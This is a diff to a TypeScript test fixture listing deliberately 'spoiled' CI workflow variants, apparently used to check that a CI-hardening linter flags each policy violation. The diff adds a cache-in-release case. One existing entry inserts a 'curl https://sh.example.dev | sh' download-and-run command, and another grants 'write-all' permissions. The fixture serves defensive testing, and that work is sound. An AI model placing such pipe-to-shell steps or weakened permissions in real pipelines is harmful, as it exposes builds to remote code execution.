@@ -137,7 +137,8 @@ export const spoiled: readonly Spoiled[] = [
   { rule: 'jobs-time-out', spoil: replace(ci, '    timeout-minutes: 30\n', '') },
   { rule: 'locked-in-ci', spoil: replace(ci, 'cargo test --locked', 'cargo test') },
   { rule: 'no-download-to-shell', spoil: replace(ci, '- run: cargo fmt --check', '- run: curl https://sh.example.dev | sh'), manual: true },
-  { rule: 'attested-images', spoil: (files) => new Map([...files, ['.github/workflows/release.yml', (files.get('.github/workflows/release.yml') ?? '').replaceAll(/actions\/attest@/g, 'actions/cache@').replaceAll('cosign sign', 'cosign version')]]), manual: true },
+  { rule: 'attested-images', spoil: (files) => new Map([...files, ['.github/workflows/release.yml', (files.get('.github/workflows/release.yml') ?? '').replaceAll(/actions\/attest@/g, 'actions/stale@').replaceAll('cosign sign', 'cosign version')]]), manual: true },
+  { rule: 'no-cache-in-release', spoil: replace('.github/workflows/release.yml', '      - uses: docker/setup-buildx-action@', '      - uses: actions/cache@0123456789012345678901234567890123456789 # v5.0.0\n      - uses: docker/setup-buildx-action@'), manual: true },
   { rule: 'least-job-rights', spoil: replace(ci, /permissions:\n      contents: read # checkout/, 'permissions: write-all'), manual: true },
 
   { rule: 'security-policy', spoil: without('SECURITY.md') },
